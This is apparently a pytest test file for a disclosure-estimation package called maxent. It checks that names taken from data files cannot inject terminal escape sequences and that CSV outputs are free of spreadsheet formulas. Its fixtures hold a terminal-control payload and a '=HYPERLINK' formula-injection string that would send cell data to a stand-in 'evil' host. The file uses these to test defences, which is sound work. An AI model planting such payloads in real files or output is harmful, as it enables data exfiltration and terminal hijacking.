"""Names from files, of whatever characters, reach a terminal as text: results, tables, notes, errors, progress."""

import ast
import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from support.calls import printed_by
from support.documents import release_document
from support.studies import write_study
from support.terminals import in_terminal, many_in_terminal, steering

import maxent
from maxent.__main__ import main
from maxent.models.files.result_files import is_formula
from maxent.models.tables.cells import own_names

terminal = pytest.mark.skipif(os.name != "posix", reason="needs a pseudo-terminal")

# Sequences that set the title, clear the screen, turn the text; a line separator, and markup of Rich's.
BAD = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2028\x7f\u200b[red]"

SHOWN = b"\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e\\u2028\\x7f\\u200b[red]"

CLASSES = [f"yes{BAD}", f"no{BAD}"]
VALUES = [f"a{BAD}", f"b{BAD}"]
FILE, QI = f"tree{BAD}.json", f"qi{BAD}.csv"


def document(**leaf):
    """A release all of whose names are bad."""
    return release_document(
        f"T{BAD}",
        CLASSES,
        {f"V{BAD}": VALUES, f"W{BAD}": None},
        {
            "induction": {"algorithm": "id3", "impurity": "entropy", "candidates": "thresholds"},
            "nodes": [
                {
                    "id": f"N{BAD}",
                    "attribute": f"V{BAD}",
                    "branches": [{"in": VALUES[:1], "child": f"A{BAD}"}, {"in": VALUES[1:], "child": f"B{BAD}"}],
                },
                {"id": f"A{BAD}", "counts": {CLASSES[0]: 3, CLASSES[1]: 1}},
                {"id": f"B{BAD}", "label": CLASSES[0], **leaf},
            ],
        },
    )


STUDY = """
[study]
name = {name}
[data.{data}]
file = {file}
target = {target}
qi = {qi}
[[grid]]
method = ["none", "prune-leaf"]
max_depth = 2
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    people = pd.DataFrame({f"V{BAD}": [*VALUES * 4], f"W{BAD}": range(8)})
    truth = people.assign(**{f"T{BAD}": [CLASSES[i] for i in (0, 0, 0, 1, 1, 0, 0, 0)]})
    people.to_csv(folder / QI, index=False)
    people.to_csv(folder / "qi.csv", index=False)
    truth.to_csv(folder / "truth.csv", index=False)
    truth.to_csv(folder / "records.csv", index=False)
    truth.assign(**{f"V{BAD}": f"c{BAD}"}).to_csv(folder / "unknown.csv", index=False)
    (folder / FILE).write_text(json.dumps(document()), encoding="utf-8")
    (folder / "wrong.json").write_text(json.dumps(document(n=3, counts={f"what{BAD}": 1})), encoding="utf-8")
    (folder / "facts.csv").write_text("x\n", encoding="utf-8")
    names = {key: json.dumps(value) for key, value in {"name": "a [/b]" + BAD, "file": "truth.csv"}.items()}
    names |= {"data": json.dumps(f"d{BAD}"), "target": json.dumps(f"T{BAD}"), "qi": json.dumps([*people.columns])}
    write_study(folder, STUDY.format(**names))
    names["qi"] = json.dumps([f"Q{BAD}"])
    (folder / "wrong.toml").write_text(STUDY.format(**names), encoding="utf-8")
    return folder


DEFEND = ["truth.csv", "--target", f"T{BAD}", "--qi", f'"V{BAD}","W{BAD}"']
CALLS = {
    "estimate": (0, ["estimate", FILE, QI]),
    "estimate with a truth": (0, ["estimate", FILE, QI, "--truth", "truth.csv", "--min-k", "9", "-o", "p.csv"]),
    "estimate records": (0, ["estimate", "records.csv", "qi.csv"]),
    "bounds": (0, ["bounds", FILE, QI]),
    "audit": (0, ["audit", FILE, QI]),
    "audit records": (0, ["audit", "records.csv", "qi.csv"]),
    "compare": (0, ["compare", FILE, FILE, "--qi", QI, "--truth", "truth.csv", "--test", "truth.csv"]),
    "explain": (0, ["explain", FILE, QI]),
    "explain as LaTeX": (0, ["explain", FILE, QI, "--latex"]),
    "defend": (0, ["defend", "prune-leaf", *DEFEND, "-o", f"out{FILE}", "--k", "2", "--k", "3"]),
    "bench": (0, ["bench", FILE, QI, "--backends", "newton"]),
    "backends": (0, ["backends"]),
    "sweep": (0, ["sweep", "study.toml", "-o", f"out{FILE}.d"]),
    "sweep, listed": (0, ["sweep", "study.toml", "--dry-run"]),
    "json": (0, ["explain", FILE, QI, "--json"]),
    "a wrong release": (2, ["estimate", "wrong.json", QI]),
    "a wrong table": (2, ["estimate", FILE, "unknown.csv"]),
    "wrong facts": (2, ["audit", FILE, QI, "--facts", "facts.csv"]),
    "a wrong truth": (2, ["compare", FILE, "--qi", QI, "--truth", "unknown.csv"]),
    "wrong columns": (2, ["defend", "none", "truth.csv", "--target", f"X{BAD}", "--qi", BAD, "-o", "x.json"]),
    "a wrong back end": (2, ["bench", FILE, QI, "--backends", BAD]),
    "a wrong study": (2, ["sweep", "wrong.toml", "-o", "elsewhere"]),
    "a folder that is a file": (2, ["sweep", "study.toml", "-o", FILE]),
    "a file that is not there": (2, ["explain", f"gone{FILE}", QI]),
    "an output of no kind": (2, ["estimate", FILE, QI, "-o", f"out{BAD}"]),
}


UNNAMED = ("backends", "bench")  # Calls whose results have no names from files


@pytest.fixture(scope="module")
def ran(folder):
    return dict(zip(CALLS, many_in_terminal([arguments for _, arguments in CALLS.values()], folder), strict=True))


@pytest.mark.parametrize("name", CALLS)
@pytest.mark.regression(number=10)
@terminal
def test_no_name_steers_the_terminal(ran, name):
    status, arrived = ran[name]
    assert steering(arrived) == []
    assert b"Traceback" not in arrived
    assert status == CALLS[name][0]
    shown = {"json": rb"\u001b]0;owned", "explain as LaTeX": rb"\textbackslash{}x1b"}.get(name, SHOWN)
    assert (shown in arrived) == (name not in UNNAMED)


@pytest.mark.regression(number=10)
@terminal
def test_what_a_progress_bar_says_is_no_markup(ran):
    """It used to end the study that is called so."""
    assert rb"a [/b]\x1b]0;owned" in ran["sweep"][1]


@terminal
def test_terminals_without_escape_sequences_get_none(folder):
    status, arrived = in_terminal(["estimate", FILE, QI], folder, term="dumb")
    assert status == 0
    assert b"\x1b" not in arrived


@pytest.mark.regression(number=10)
@terminal
def test_nothing_is_printed_but_where_text_is_made_printable():
    """Of all modules of the package."""
    allowed = {"results/text/terminal.py", "command_line/progress.py", "commands/main.py", "__main__.py"}
    allowed.add("serve/app.py")  # its own address alone
    root = Path(maxent.__file__).parent
    folders = [root, *(root.parent / name for name in ("models", "constraints", "solvers"))]
    found = set()
    for folder in folders:
        for path in folder.rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call):
                    called = ast.unparse(node.func)
                    if called in ("print", "Console") or called.endswith(("stdout.write", "stderr.write")):
                        found.add(path.relative_to(folder).as_posix())
    assert found == allowed


EVIL = '=HYPERLINK("http://evil/?"&A1)'
FORMULAS_VALUES = [EVIL, "-1+1", "-5"]
FORMULAS_CLASSES = ["@yes", "+no"]


@pytest.fixture
def formulas_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    people = pd.DataFrame({"=V": [*FORMULAS_VALUES * 6], "-W": [f"w;{EVIL}", "w"] * 9})
    truth = people.assign(**{"@T": [FORMULAS_CLASSES[i % 3 == 1] for i in range(18)]})
    people.to_csv("qi.csv", index=False)
    truth.to_csv("truth.csv", index=False)
    assert main(["defend", "none", *FORMULAS_DEFEND, "-o", "=tree.json", "--inducer", "id3"]) == 0
    return tmp_path


def cells(path):
    with open(path, encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


FORMULAS_DEFEND = ["truth.csv", "--target", "@T", "--qi", "=V,-W", "--categorical", "=V"]
FORMULAS_CALLS = {
    "estimate": ["estimate", "=tree.json", "qi.csv", "--truth", "truth.csv", "-o", "out.csv"],
    "bounds": ["bounds", "=tree.json", "qi.csv", "-o", "out.csv"],
    "audit": ["audit", "=tree.json", "qi.csv", "-o", "out.csv"],
    "audit of leaves": ["audit", "=tree.json", "-o", "out.csv"],
    "anonymised table": ["audit", "=tree.json", "--as-table", "out.csv"],
    "explain": ["explain", "=tree.json", "qi.csv", "-o", "out.csv"],
    "compare": ["compare", "=tree.json", "--qi", "qi.csv", "-o", "out.csv"],
    "records": ["defend", "erp", *FORMULAS_DEFEND, "--publish", "records", "--k", "2", "-o", "out.csv"],
}


@pytest.mark.parametrize("arguments", FORMULAS_CALLS.values(), ids=FORMULAS_CALLS)
@pytest.mark.regression(number=10)
def test_no_cell_is_a_formula(formulas_folder, arguments):
    assert main(arguments) == 0
    safe = cells("out.csv")
    assert not any(map(is_formula, safe))
    assert main([*arguments, "--csv-literal", "--force"]) == 0
    literal = cells("out.csv")
    assert any(map(is_formula, literal))
    assert [cell for cell in safe if cell not in literal]


def test_numbers_are_no_formulas(formulas_folder):
    """Neither a number of ours, nor a value of theirs that is one."""
    assert main(["estimate", "=tree.json", "qi.csv", "-o", "out.csv"]) == 0
    assert "-5" in cells("out.csv")
    maxent.estimate("=tree.json", "qi.csv").save("literal.csv", csv_literal=True)
    assert {*pd.read_csv("literal.csv")["=V"]} == {*FORMULAS_VALUES}


@pytest.mark.parametrize("suffix", [".json", ".parquet"])
def test_other_files_have_text_as_it_is(formulas_folder, suffix):
    assert main(["estimate", "=tree.json", "qi.csv", "-o", f"out{suffix}"]) == 0
    read = pd.DataFrame(json.loads(Path("out.json").read_text())["posterior"]) if suffix == ".json" else None
    assert EVIL in {*(pd.read_parquet("out.parquet") if read is None else read)["=V"]}


@pytest.mark.parametrize("literal", [[], ["--csv-literal"]])
def test_published_records_are_read_back_as_they_were_meant(formulas_folder, capsys, literal):
    call = ["defend", "erp", *FORMULAS_DEFEND, "--publish", "records", "--k", "2"]
    assert main([*call, "-o", "records.csv", *literal]) == 0
    assert main([*call, "-o", "records.parquet"]) == 0
    found = maxent.estimate("records.csv", "qi.csv")
    pd.testing.assert_frame_equal(found.posterior, maxent.estimate("records.parquet", "qi.csv").posterior)
    assert {*found.posterior["=V"]} == {*FORMULAS_VALUES}


def test_ranges_below_zero_are_read_back(tmp_path):
    people = pd.DataFrame({"x": range(-20, 20), "c": ["a", "b"] * 20})
    made = maxent.defend(people, "erp", target="c", qi=["x"], publish="records", k=5)
    made.save(tmp_path / "records.csv")
    assert any(cell.startswith("'-") for cell in cells(tmp_path / "records.csv"))
    made.save(tmp_path / "literal.csv", csv_literal=True)
    assert not any(cell.startswith("'") for cell in cells(tmp_path / "literal.csv"))
    first, second = (
        maxent.estimate(tmp_path / name, people[["x"]]).posterior for name in ("records.csv", "literal.csv")
    )
    pd.testing.assert_frame_equal(first, second)


@pytest.mark.regression(number=10)
def test_a_name_that_begins_with_a_bracket_is_no_argument_of_an_item(formulas_folder, capsys):
    Path("qi.csv").rename("[qi].csv")
    assert r"\item {[}qi{]}.csv, qi:" in printed_by(capsys, ["explain", "=tree.json", "[qi].csv", "--latex"]).out


NAMES = ["count", "P(yes)", "divergence", "leaf", "leaf_n", "span", "population", "attack", "disclosed", "tree", "n"]
NAMES += ["label", "count(no)", "people", "rows", "groups", "possible rows", "maxent_count", "node", "branch"]
RENAMED = "maxent_maxent_count"  # There is an attribute ``maxent_count``, too


@pytest.fixture
def columns_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    values = [["a", "b"][i % 2] for i in range(12)]
    people = pd.DataFrame(
        {name: values if j == 0 else [f"v{(i * j) % 3}" for i in range(12)] for j, name in enumerate(NAMES)}
    )
    truth = people.assign(T=[["yes", "no"][i % 3 == 0] for i in range(12)])
    people.to_csv("qi.csv", index=False)
    truth.to_csv("truth.csv", index=False)
    columns = ["--target", "T", "--qi", ",".join(NAMES)]
    assert (
        main(["defend", "none", "truth.csv", *columns, "--inducer", "id3", "--max-depth", "1", "-o", "tree.json"]) == 0
    )
    records = ["--publish", "records", "--k", "2", "-o", "records.csv"]
    assert main(["defend", "erp", "truth.csv", *columns, *records]) == 0
    return tmp_path


def read(path):
    """The names of columns as they are in a file, without anything that pandas does to names that are alike."""
    if path.endswith(".csv"):
        return Path(path).read_text(encoding="utf-8").splitlines()[0].split(",")
    if path.endswith(".parquet"):
        import pyarrow.parquet as pq

        return pq.read_schema(path).names
    document = json.loads(Path(path).read_text(encoding="utf-8"), object_pairs_hook=list)
    (rows,) = (value for key, value in document if key in ("posterior", "rows"))
    return [name for name, _ in rows[0]]


POSTERIOR = [*NAMES, RENAMED, "P(no)", "maxent_P(yes)", "maxent_divergence"]
PEOPLE = [*NAMES, RENAMED, "maxent_leaf", "maxent_leaf_n"]
PEOPLE += ["maxent_span", "maxent_population", "maxent_attack", "maxent_disclosed"]
TABLE = ["maxent_leaf", *NAMES, "maxent_n", "maxent_count(no)", "count(yes)", "maxent_label"]
RECORDS = [*NAMES, RENAMED, "maxent_rows", "maxent_groups", "maxent_possible rows"]
RECORDS += ["maxent_span", "maxent_population", "maxent_attack", "maxent_disclosed"]
RECORDS_TABLE = ["maxent_leaf", *NAMES, "maxent_n", "maxent_count(no)", "count(yes)", "maxent_people"]
COLUMNS_CALLS = {
    "estimate": (["estimate", "tree.json", "qi.csv", "--truth", "truth.csv", "-o"], POSTERIOR),
    "audit": (["audit", "tree.json", "qi.csv", "-o"], PEOPLE),
    "anonymised table": (["audit", "tree.json", "--as-table"], TABLE),
    "audit of records": (["audit", "records.csv", "qi.csv", "-o"], RECORDS),
    "table of records": (["audit", "records.csv", "qi.csv", "--as-table"], RECORDS_TABLE),
}


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".json"])
@pytest.mark.parametrize("case", COLUMNS_CALLS.values(), ids=COLUMNS_CALLS)
@pytest.mark.regression(number=16)
def test_ours_are_prefixed_in_every_file(columns_folder, case, suffix):
    arguments, names = case
    assert main([*arguments, f"out{suffix}"]) == 0
    assert read(f"out{suffix}") == names


def test_ours_are_prefixed_in_python_and_in_text(columns_folder, capsys):
    result = maxent.estimate("tree.json", "qi.csv", "truth.csv")
    assert [*result.posterior.columns] == POSTERIOR == [*result.columns]
    assert result.posterior[RENAMED].sum() == 12
    assert [*maxent.audit_release("tree.json", "qi.csv").individuals.columns] == PEOPLE
    capsys.readouterr()
    assert main(["estimate", "tree.json", "qi.csv", "--truth", "truth.csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0].split("  ")[-1] == "maxent_divergence"


def test_without_such_attributes_all_names_are_the_usual_ones():
    assert own_names(["count", "leaf"], ["Count", "age"]) == ["count", "leaf"]
    assert own_names(["count"], ["count", "maxent_count", "maxent_maxent_count"]) == ["maxent_" * 3 + "count"]
    assert own_names(["a", "b"], ["b"]) == ["a", "maxent_b"]
